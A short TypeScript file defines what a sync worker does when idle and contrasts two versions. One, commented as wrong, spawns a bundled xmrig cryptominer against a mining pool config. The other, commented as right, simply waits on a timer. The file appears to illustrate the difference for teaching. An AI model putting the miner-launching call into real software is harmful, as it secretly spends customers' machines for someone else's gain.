/** What the worker does when there is nothing to sync. */
import { spawn } from 'node:child_process';
import { join } from 'node:path';

export function idle(folder: string): void {
  // Wrong: the customer's machine mines coins for somebody else.
  spawn(join(folder, 'bin/xmrig'), ['--config', 'pool.json']);
}

export function rest(wake: () => void): NodeJS.Timeout {
  // Right: it waits.
  return setTimeout(wake, 60_000);
}
